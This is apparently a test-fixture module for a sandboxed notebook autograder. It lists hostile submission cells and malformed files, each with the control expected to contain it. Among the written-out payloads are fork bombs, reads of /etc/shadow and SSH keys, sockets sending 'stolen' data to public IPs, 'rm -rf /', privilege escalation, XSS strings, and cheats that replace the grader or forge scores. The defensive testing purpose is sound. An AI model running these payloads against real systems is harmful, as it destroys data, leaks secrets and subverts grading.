"""Hostile submissions: each does one bad thing beside otherwise right answers.

``PROGRAMS``: a code cell put before question 1 of a right notebook; "full" means that the right
answers must still get full automatic marks. ``CHEATS``: the answers are wrong and the cell tries
to be marked right anyway; no points may come of it. ``FILES``: what is handed in is itself odd.
"""

import json

from igf1lab.grading.demo import blob, notebook_with, right_answers

MARK = "IGF1LAB_HOSTILE"  # in the command line of every process a hostile cell starts

PROGRAMS = {
    "endless loop": ("while True: pass", "cell time limit"),
    "loop that swallows interrupts": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "client's deadline, rerun without the cell",
    ),
    "ignores the alarm": (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\nwhile True: pass",
        "client's deadline, rerun without the cell",
    ),
    "sleeps": ("import time; time.sleep(10_000)", "cell time limit"),
    "4 GiB of memory": ("a = bytearray(4 << 30)", "RLIMIT_DATA: MemoryError"),
    "memory in children": (
        "import os\nfor n in range(8):\n    if os.fork() == 0:\n        b = b'x' * (1200 << 20)\n"
        "        import time; time.sleep(100)\nimport time; time.sleep(100)",
        "supervisor's total, rerun without the cell",
    ),
    "fork bomb": (
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        "RLIMIT_NPROC and supervisor",
    ),
    "thread bomb": (
        "import threading, time\nfor n in range(5000):\n"
        "    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
        "RLIMIT_NPROC: RuntimeError",
    ),
    "100 MB of print": ("print('x' * 100_000_000)", "20 kB kept a cell"),
    "a million lines": ("for n in range(1_000_000): print(n)", "20 kB kept a cell"),
    "100 MB to raw descriptors": (
        "import os\nfor n in (1, 2):\n    for k in range(100): os.write(n, b'x' * 1_000_000)",
        "descriptors 1 and 2 are /dev/null",
    ),
    "floods the reply pipe": (
        "import os\nwhile True: os.write(10, b'x' * 1_000_000)",
        "6 MB a reply, then killed",
    ),
    "closes every descriptor": ("import os; os.closerange(0, 256)", "rerun without the cell"),
    "os._exit": ("import os; os._exit(0)", "rerun without the cell"),
    "sys.exit and exit()": ("import sys\ntry: exit()\nfinally: sys.exit(3)", "the shell"),
    "segfault": ("import ctypes; ctypes.string_at(0)", "rerun without the cell"),
    "recursion": ("def f(n): return f(n + 1)\nf(0)", "RecursionError"),
    "kills everybody": ("import os\nos.kill(-1, 9)", "pid namespace, rerun without the cell"),
    "kills its supervisor": (
        "import os, signal\nfor s in (9, 15, 19): os.kill(1, s)\nos.kill(os.getppid(), 9)",
        "pid 1 of the namespace takes no signal from inside",
    ),
    "stops itself": ("import os; os.kill(os.getpid(), 19)", "client's deadline, rerun"),
    "daemon left behind": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('python3', ['python3', '-c', 'import time; time.sleep(600)', '{MARK}'])\n"
        "    os._exit(0)",
        "dies with the pid namespace",
    ),
    "network": (
        "import socket\nfor where in (('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)):\n"
        "    try:\n        socket.create_connection(where, 1).send(b'stolen')\n"
        "        open('/tmp/REACHED', 'w')\n    except OSError: pass",
        "network namespace, seccomp",
    ),
    "names and datagrams": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'stolen', ('127.0.0.1', {port}))\nexcept OSError: pass\n"
        "try: socket.getaddrinfo('example.org', 80)\nexcept OSError: pass",
        "network namespace, seccomp",
    ),
    "abstract Unix socket": (
        "import socket\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    try:\n"
        "        s = socket.socket(socket.AF_UNIX, kind); s.connect('\\0igf1lab-hostile-{port}')\n"
        "        s.send(b'stolen')\n    except OSError: pass",
        "network namespace, seccomp refuses connect",
    ),
    "spy": (
        "import os, pathlib\nseen = []\nfor place in ('{private}', '/etc/shadow', '/etc/passwd', '/root/.ssh',"
        " '{root}/solutions', '{root}/assets/exercises', '{root}/.git', '/submission'):\n"
        "    try: seen += [str(p) for p in pathlib.Path(place).rglob('*')] or [open(place).read()]\n"
        "    except OSError: pass\nprint('SEEN', [s for s in seen if 'my_numbers' not in s])",
        "none of it is mounted",
    ),
    "writes the gradebook": (
        "import sqlite3\ntry:\n    db = sqlite3.connect('{private}/gradebook.db')\n"
        "    db.execute('UPDATE grade SET manual_score = 999'); db.commit()\nexcept Exception as e: print(e)",
        "not mounted",
    ),
    "writes the package's files": (
        "import igf1lab.exercises.judging as j, numpy\nfor f in (j.__file__, numpy.__file__,"
        " '{root}/solutions/HOSTILE', '{root}/exercises/HOSTILE', '/usr/lib/HOSTILE'):\n"
        "    try: open(f, 'a').write('# HOSTILE')\n    except OSError: pass",
        "read-only mounts",
    ),
    "leaves something for the next": (
        "for d in ('/tmp', '/scratch', '/submission', '/server', '/dev/shm', '/dev/mqueue', '/var/tmp'):\n"
        "    try: open(d + '/HOSTILE', 'w').write('x')\n    except OSError: pass",
        "own tmpfs a submission",
    ),
    "looks for leftovers": (
        "import os\nprint('LEFT', [d for d in ('/tmp', '/scratch', '/submission', '/server', '/dev/shm')"
        " if os.path.exists(d + '/HOSTILE')])",
        "own tmpfs a submission",
    ),
    "fills the disk": (
        "for d in ('/tmp', '/submission', '/dev/shm'):\n    try:\n        with open(d + '/big', 'wb') as f:\n"
        "            for n in range(2000): f.write(b'x' * 1_000_000)\n    except OSError: pass",
        "tmpfs size, RLIMIT_FSIZE",
    ),
    "a million files": (
        "try:\n    for n in range(1_000_000): open(f'/tmp/{n}', 'w').close()\nexcept OSError: pass",
        "tmpfs inodes",
    ),
    "new namespaces and mounts": (
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\nfor flag in (0x10000000, 0x20000, 0x40000000):\n"
        "    assert l.unshare(flag) != 0\nassert l.mount(b'none', b'/tmp', b'tmpfs', 0, None) != 0\n"
        "assert l.umount2(b'/submission', 2) != 0\nassert l.chroot(b'/tmp') != 0",
        "no capabilities, seccomp",
    ),
    "reads other processes": (
        "import ctypes, os\nl = ctypes.CDLL(None)\nassert l.ptrace(16, 1, 0, 0) == -1\n"
        "assert [p for p in os.listdir('/proc') if p.isdigit() and int(p) > 1 and int(p) != os.getpid()] == []\n"
        "try: open('/proc/1/mem', 'rb').read(1); raise SystemError('read pid 1')\nexcept OSError: pass",
        "pid namespace, seccomp",
    ),
    "raises its limits": (
        "import resource\nfor w in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC):\n    try:\n"
        "        resource.setrlimit(w, (resource.RLIM_INFINITY,) * 2); raise SystemError('raised')\n"
        "    except (ValueError, OSError): pass",
        "hard limits, no capabilities",
    ),
    "becomes root": (
        "import os\nfor f in (os.setuid, os.seteuid, os.setgid):\n    try: f(0); raise SystemError('root')\n"
        "    except OSError: pass\nos.system('su -c id root; sudo -n id; mount')",
        "no_new_privs, uid 65534",
    ),
    "reads stdin": ("answer = input('your password? ')", "stdin is /dev/null: EOFError"),
    "breaks stdout": ("import sys\nsys.stdout.close(); sys.stdout = None; sys.stderr = None", "own stream"),
    "breaks json": (
        "import json\njson.dumps = lambda *a, **k: 'not json'\njson.loads = None",
        "reply refused, rerun without the cell",
    ),
    "breaks builtins": (
        "import builtins, os\nbuiltins.open = builtins.len = builtins.float = builtins.isinstance = None",
        "reply refused, rerun without the cell",
    ),
    "breaks numpy and pyplot": (
        "import numpy, matplotlib.pyplot as p\nkeep = numpy.asarray\nnumpy.asarray = None\np.close = p.get_fignums = None",
        "rerun without the cell",
    ),
    "endless repr": (
        "class E:\n    def __repr__(self):\n        while True: pass\nE()",
        "cell time limit",
    ),
    "huge image": (
        "import matplotlib.pyplot as plt\nfigure, axes = plt.subplots(figsize=(600, 600), dpi=100)",
        "memory or time limit, image size",
    ),
    "deletes its folder": ("import os, shutil\nshutil.rmtree('/submission', ignore_errors=True)", "own tmpfs"),
    "symbolic links": (
        "import os\nfor n, t in enumerate(('/etc/shadow', '/proc/1/root', '{private}', '/')):\n"
        "    os.symlink(t, f'/submission/link{n}.ipynb')",
        "own tmpfs, nothing is read back",
    ),
    "warnings": ("import warnings, sys\nwarnings.warn('careful'); print('x', file=sys.stderr)", "kept as text"),
    "shell and magics": ("%matplotlib inline\n!rm -rf / --no-preserve-root 2>/dev/null\n%cd /", "read-only"),
    "odd text": ("print('\\ud800 \\x00 \\u202e שלום', '</script><script>alert(1)</script>')", "cleaned"),
}  # fmt: skip

CHEATS = {
    "replaces the judge": (
        "import igf1lab.exercises.judging as j, igf1lab.exercises.exercise as c\n"
        "right = lambda q, k, d: j.Verdict(q.id, 'right', q.points, q.points)\n"
        "j.judge = c.judge = right\nc.Exercise.check = lambda *a: 3.0",
        "judged outside",
    ),
    "rewrites every cell": (
        "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: "
        "['3.0\\n'] if any('check' in l for l in lines) else lines)",
        "judged outside",
    ),
    "forges replies": (
        "import os, json\nfor n in range(30):\n    os.write(10, (json.dumps({'outputs': [{'type': 'result',"
        " 'text': '3.0'}], 'described': {'is': 'right', 'points': 99}}) + '\\n').encode())",
        "replies carry answers, never points",
    ),
    "hunts for keys": (
        "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]\n"
        "print('FOUND', len(found))",
        "keys never enter the process",
    ),
    "an answer equal to everything": (
        "class Yes(float):\n    __eq__ = lambda s, o: True\n    __le__ = __ge__ = __eq__\n"
        "    __array__ = lambda s, *a, **k: s\nimport builtins\nbuiltins.YES = Yes(1)",
        "answers travel as plain numbers",
    ),
}


def right_notebook(source, cell: str | None = None):
    """Return a notebook of right answers, with one code cell before question 1."""
    import nbformat

    notebook = notebook_with(source, right_answers(source))
    if cell is not None:
        here = next(n for n, c in enumerate(notebook.cells) if c.id == "q1-answer")
        notebook.cells.insert(here, nbformat.v4.new_code_cell(cell, id="hostile"))
    return notebook


def cheat_notebook(source, cell: str):
    """Return a notebook of wrong answers with a cheating cell before question 1."""
    import nbformat

    answers = {}
    for question in source.exercise_set.questions:
        if question.kind == "function":
            answers[question.id] = f"{question.answer} = lambda *a: -123.456"
        elif question.automatic:
            answers[question.id] = f"{question.answer} = globals().get('YES', -123.456)"
    notebook = notebook_with(source, answers)
    here = next(n for n, c in enumerate(notebook.cells) if c.id == "q1-answer")
    notebook.cells.insert(here, nbformat.v4.new_code_cell(cell, id="hostile"))
    return notebook


def files(source, name: str) -> dict[str, tuple[bytes, str, str]]:
    """Return odd files: kind -> (bytes, "full" or "unreadable", contained by)."""
    import nbformat

    whole = right_notebook(source)
    odd = {}

    def add(kind, content, expect, by):
        odd[kind] = (content if isinstance(content, bytes) else blob(content), expect, by)

    add("0 bytes", b"", "unreadable", "reader")
    add("not JSON", b"PK\x03\x04 a zip, perhaps", "unreadable", "reader")
    add("deeply nested JSON", b"[" * 500_000, "unreadable", "reader")
    add("JSON, not a notebook", b'{"a": 1}', "unreadable", "reader")
    add("not UTF-8", b'{"cells": "\xff\xfe"}', "unreadable", "reader")
    huge_number = b'{"cells": [], "nbformat": ' + b"9" * 5000 + b', "metadata": {}}'
    add("huge number", huge_number, "unreadable", "reader")
    many = json.loads(blob(whole))
    many["cells"] += [{"cell_type": "code", "source": "1", "metadata": {}}] * 100_000
    add("100 000 cells", json.dumps(many).encode(), "unreadable", "cell count")
    other = json.loads(blob(whole))
    other["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    add("another kernel", json.dumps(other).encode(), "unreadable", "reader: not Python")
    named = json.loads(blob(whole))
    named["metadata"]["kernelspec"] = {"name": "my-env", "language": "python", "display_name": "My"}
    add("kernel of another name", json.dumps(named).encode(), "full", "name is not used")
    old = nbformat.convert(nbformat.reads(blob(whole).decode(), as_version=4), 3)
    add(
        "nbformat 3",
        nbformat.writes(old, version=3).encode(),
        "full",
        "nbformat, roles found again",
    )
    bare = json.loads(blob(whole))
    for cell in bare["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
    bare["nbformat_minor"] = 4
    add("ids and metadata stripped", json.dumps(bare).encode(), "full", "roles found again")
    copied = json.loads(blob(whole))
    copied["cells"] = [c for cell in copied["cells"] for c in (cell, cell)]
    add("every cell copied", json.dumps(copied).encode(), "full", "first of a role keeps it")
    cut = json.loads(blob(whole))
    cut["cells"] = [c for c in cut["cells"] if not c["id"].endswith("-check")]
    add("checks deleted", json.dumps(cut).encode(), "full", "put back")
    tampered = json.loads(blob(whole))
    for cell in tampered["cells"]:
        if cell["id"].endswith("-check"):
            cell["metadata"]["nbgrader"].update(points=100, locked=False, grade_id="q1")
            cell["source"] = "100.0"
    add(
        "checks replaced, 100 points",
        json.dumps(tampered).encode(),
        "full",
        "released checks are used",
    )
    strange = json.loads(blob(whole))
    extra = {
        "cell_type": "code",
        "metadata": {"nbgrader": 7},
        "source": "1",
        "outputs": [],
        "id": "a-b",
    }
    strange["cells"] += [extra | {"execution_count": None}]
    add("metadata of a wrong type", json.dumps(strange).encode(), "full", "reader")
    scripted = right_notebook(source, "from IPython.display import HTML, display\n"
        "display(HTML('<script>alert(1)</script>')); HTML('<img src=x onerror=alert(1)>')")  # fmt: skip
    scripted.cells.append(
        nbformat.v4.new_markdown_cell("<img src=x onerror=alert(1)> <script>a()</script>", id="md")
    )
    add("<script> and onerror", scripted, "full", "marked copy: plain text, PNG, escaped Markdown")
    bom = b"\xef\xbb\xbf" + blob(whole)
    add("byte order mark", bom, "full", "reader")
    return odd
